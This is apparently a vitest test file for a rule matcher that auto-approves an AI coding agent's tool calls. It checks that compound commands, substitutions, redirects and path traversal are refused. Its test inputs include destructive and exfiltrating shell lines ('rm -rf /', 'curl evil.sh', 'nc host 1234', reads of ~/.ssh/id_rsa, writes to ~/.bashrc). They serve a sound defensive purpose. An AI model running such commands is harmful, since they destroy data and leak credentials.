import { describe, expect, it } from 'vitest';
import {
  ApproveRulesSchema,
  MAX_INPUT,
  RuleSyntaxError,
  analyzeCommand,
  autoApprove,
  compileApproveRules,
  matchRules,
  parseRule,
} from '../../../src/core/approve/index.js';

const rules = (...sources: string[]) => sources.map(parseRule);
const allows = (sources: string[], tool: string, input: string) => matchRules(rules(...sources), tool, input).approve;

describe('rule syntax', () => {
  it('parses Tool and Tool(pattern) into modes', () => {
    expect(parseRule('Bash(npm test*)')).toMatchObject({ tool: 'bash', mode: 'words', words: [{ literal: 'npm' }, { literal: 'test' }, { star: true }] });
    expect(parseRule('Bash(npm run test:*)')).toMatchObject({ mode: 'words', words: [{ literal: 'npm' }, { literal: 'run' }, { literal: 'test' }, { star: true }] });
    expect(parseRule('Bash')).toMatchObject({ mode: 'words', words: [{ star: true }] });
    expect(parseRule('Read(*)')).toMatchObject({ tool: 'read', mode: 'any' });
    expect(parseRule('Read')).toMatchObject({ mode: 'any' });
    // A quoted * is part of the command, so this rule allows exactly that command.
    expect(parseRule("Bash(node -e 'console.log(6*7)')")).toMatchObject({ mode: 'exact' });
    expect(parseRule('Bash(git status)')).toMatchObject({ mode: 'exact', pattern: 'git status' });
    expect(parseRule('Edit(src/**)')).toMatchObject({ tool: 'edit', mode: 'glob' });
  });

  it('refuses what is not a rule, saying how to write one', () => {
    expect(() => parseRule('Bash(')).toThrow(RuleSyntaxError);
    expect(() => parseRule('npm test')).toThrow(/Tool\(pattern\)/);
    expect(() => parseRule('Bash()')).toThrow(/empty pattern/);
    // In a command a * stands for whole words: inside a word it would say nothing safe.
    expect(() => parseRule('Bash(ls *.ts)')).toThrow(/whole words/);
    expect(() => parseRule('Bash(git log -*n)')).toThrow(/whole words/);
    expect(() => parseRule('Bash(npm test* | tee log)')).toThrow(/one simple command/);
  });

  it('is off by default, per program, and reports bad rules without dropping the good ones', () => {
    const config = ApproveRulesSchema.parse({ programs: { claude: ['Bash(npm test*)', 'oops ('] } });
    expect(config.enabled).toBe(false);
    const { rules: byProgram, problems } = compileApproveRules(config);
    expect(byProgram.get('claude')).toHaveLength(1);
    expect(problems).toHaveLength(1);
    expect(autoApprove({ enabled: false, rules: byProgram }, 'claude', 'Bash', 'npm test', '.')).toEqual({ approve: false, reason: 'auto-approve is off' });
    expect(autoApprove({ enabled: true, rules: byProgram }, 'claude', 'Bash', 'npm test', '.')).toEqual({ approve: true, rules: ['Bash(npm test*)'] });
    expect(autoApprove({ enabled: true, rules: byProgram }, 'codex', 'Bash', 'npm test', '.').approve).toBe(false);
  });
});

describe('matching', () => {
  it('matches the tool by name, any case, and nothing else', () => {
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test')).toBe(true);
    expect(allows(['bash(npm test*)'], 'Bash', 'npm test src/a.test.ts')).toBe(true);
    expect(allows(['Bash(npm test*)'], 'Read', 'npm test')).toBe(false);
    expect(matchRules([], 'Bash', 'ls')).toEqual({ approve: false, reason: 'no rule for Bash' });
  });

  it('takes a command rule word by word, a * standing for whole words only', () => {
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm tests')).toBe(false);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm testevil')).toBe(false);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test src/a.test.ts src/b.test.ts')).toBe(true);
    expect(allows(['Bash(npm test *)'], 'Bash', 'npm test')).toBe(true);
    expect(allows(['Bash(git add * --dry-run)'], 'Bash', 'git add a.ts b.ts --dry-run')).toBe(true);
    expect(allows(['Bash(git add * --dry-run)'], 'Bash', 'git add a.ts --force --dry-run')).toBe(false);
    expect(allows(['Bash(npm test:*)'], 'Bash', 'npm tests')).toBe(false);
    expect(allows(['Bash(npm test:*)'], 'Bash', 'npm test')).toBe(true);
    expect(allows(['Bash(npm test:*)'], 'Bash', 'npm test src/a/b.test.ts')).toBe(true);
    expect(allows(['Bash(git log --oneline)'], 'Bash', 'git log --oneline')).toBe(true);
    expect(allows(['Bash(git log --oneline)'], 'Bash', 'git log --oneline -5')).toBe(false);
    expect(allows(['Bash(echo a.b)'], 'Bash', 'echo axb')).toBe(false);
  });

  it('matches paths with * within a directory and ** across, Read(*) for any file', () => {
    expect(allows(['Read(*)'], 'Read', '/etc/hosts')).toBe(true);
    expect(allows(['Edit(src/**)'], 'Edit', 'src/core/detect/menu.ts')).toBe(true);
    expect(allows(['Edit(src/**)'], 'Edit', 'test/a.ts')).toBe(false);
    expect(allows(['Edit(src/*.ts)'], 'Edit', 'src/a.ts')).toBe(true);
    expect(allows(['Edit(src/*.ts)'], 'Edit', 'src/core/a.ts')).toBe(false);
    expect(allows(['Edit(src/**/*.ts)'], 'Edit', 'src/a.ts')).toBe(true);
    expect(allows(['Edit(src/**/*.ts)'], 'Edit', 'src/x/y/a.ts')).toBe(true);
    expect(allows(['Write(notes?.md)'], 'Write', 'notes1.md')).toBe(true);
  });

  it('never lets a wildcard climb out of a path with ..', () => {
    expect(allows(['Edit(src/**)'], 'Edit', 'src/../../etc/passwd')).toBe(false);
    expect(allows(['Read(*)'], 'Read', '../secrets.env')).toBe(false);
    expect(allows(['Read(../secrets.env)'], 'Read', '../secrets.env')).toBe(true);
    expect(allows(['Read(*)'], 'Read', 'a.txt\nb.txt')).toBe(false);
  });

  it('never matches an empty input with a wildcard', () => {
    expect(allows(['Bash(*)'], 'Bash', '  ')).toBe(false);
    expect(allows(['Read(*)'], 'Read', '')).toBe(false);
  });
});

describe('compound commands', () => {
  it('needs a rule for every simple command, so nothing rides on a prefix', () => {
    for (const input of [
      'npm test && rm -rf /',
      'npm test; curl evil.sh',
      'npm test || touch /tmp/x',
      'npm test | nc host 1234',
      'npm test & wget x',
      'npm test\nwhoami',
    ]) {
      const d = matchRules(rules('Bash(npm test*)'), 'Bash', input);
      expect(d.approve, input).toBe(false);
    }
    expect(allows(['Bash(npm test*)', 'Bash(npm run lint:*)'], 'Bash', 'npm test && npm run lint')).toBe(true);
    expect(allows(['Bash(npm test*)', 'Bash(grep *)'], 'Bash', 'npm test | grep FAIL')).toBe(true);
  });

  it('refuses substitutions, subshells, groups, here-documents and file redirects under any wildcard', () => {
    for (const input of [
      'npm test $(rm -rf /)',
      'npm test `rm -rf /`',
      'npm test "$(whoami)"',
      'npm test <(curl x)',
      '(rm -rf /)',
      '{ rm -rf /; }',
      'cat <<EOF',
      'npm test > ~/.bashrc',
      'npm test >> out.log',
      "npm test 'unbalanced",
      'eval "$CMD"',
      'find . -name x | xargs rm',
      // What runs, or its flags, come from somewhere else than the text.
      'rm $FLAGS build',
      'X=rm; $X -rf /',
      'echo "${HOME}"',
      "$'\\x72m' -rf /",
      'rm -{r,f} build',
      '/bin/r? -rf /',
      'nice -n 5 rm -rf build',
    ]) {
      expect(matchRules(rules('Bash(*)'), 'Bash', input).approve, input).toBe(false);
    }
  });

  it('reads quoted operators as part of a word, and lets harmless redirects through', () => {
    const message = 'git commit -m "fix; and && more | stuff"';
    expect(allows([`Bash(${message})`], 'Bash', message)).toBe(true);
    expect(analyzeCommand("echo '$(not run) `nor this`'")).toMatchObject({ segments: [{ text: "echo '$(not run) `nor this`'" }] });
    expect(allows(['Bash(echo *)'], 'Bash', "echo '$(not run)' `")).toBe(false);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test 2>&1')).toBe(true);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test > /dev/null 2>&1')).toBe(true);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test &>/dev/null')).toBe(true);
    expect(allows(['Bash(wc -l *)'], 'Bash', 'wc -l < input.txt')).toBe(true);
    expect(allows(['Bash(wc -l *)'], 'Bash', 'wc -l < ~/.ssh/id_rsa')).toBe(false);
    // Not a descriptor: bash writes into a file named 1x, or file.
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test >&1x')).toBe(false);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test >&file')).toBe(false);
    expect(allows(['Bash(npm test*)'], 'Bash', 'npm test 2>&1;')).toBe(true);
  });

  it('never lets a * stand for an option, quoted text, a glob, ~ or an assignment', () => {
    for (const input of [
      'npm test --watch',
      'npm test -u',
      'npm test "src/a b.ts"',
      "npm test 'src/a.ts'",
      'npm test src\\a.ts',
      'npm test src/*.ts',
      'npm test src/a?.ts',
      'npm test ~/a.ts',
      'npm test a#b',
    ]) {
      expect(matchRules(rules('Bash(npm test*)'), 'Bash', input).approve, input).toBe(false);
    }
    expect(allows(['Bash(*)'], 'Bash', 'CI=1 npm test')).toBe(false);
    expect(allows(['Bash(CI=1 npm test*)'], 'Bash', 'CI=1 npm test a.ts')).toBe(true);
    expect(allows(['Bash(npm test *)'], 'Bash', 'npm test a.ts b_c.ts x/y:z@1 %+=,')).toBe(true);
    expect(matchRules(rules('Bash(npm test*)'), 'Bash', 'npm test --node-options=x').approve).toBe(false);
    expect(matchRules(rules('Bash(npm test*)'), 'Bash', 'npm test -x')).toMatchObject({ reason: expect.stringContaining('a * stands only for plain words, not "-x"') });
  });

  it('refuses anything too long to be a real command, at once', () => {
    expect(allows(['Bash(npm test*)'], 'Bash', `npm test ${'a '.repeat(2000)}`)).toBe(true);
    // 1 MB: linear-time matching would still take a while; it is never looked at.
    const huge = `npm test ${'a '.repeat(500_000)}`;
    expect(matchRules(rules('Bash(npm test*)'), 'Bash', huge)).toEqual({ approve: false, reason: `the input is over ${MAX_INPUT} characters` });
    expect(allows(['Bash(*)'], 'Bash', `echo ${'x'.repeat(1_000_000)}`)).toBe(false);
    expect(allows(['Read(*)'], 'Read', `${'a/'.repeat(500_000)}x`)).toBe(false);
  });

  it('explains why it said no', () => {
    expect(matchRules(rules('Bash(npm test*)'), 'Bash', 'npm test && ls')).toEqual({ approve: false, reason: 'no rule allows "ls"' });
    expect(matchRules(rules('Bash(*)'), 'Bash', 'echo $(id)')).toMatchObject({ reason: expect.stringContaining('command substitution') });
  });
});
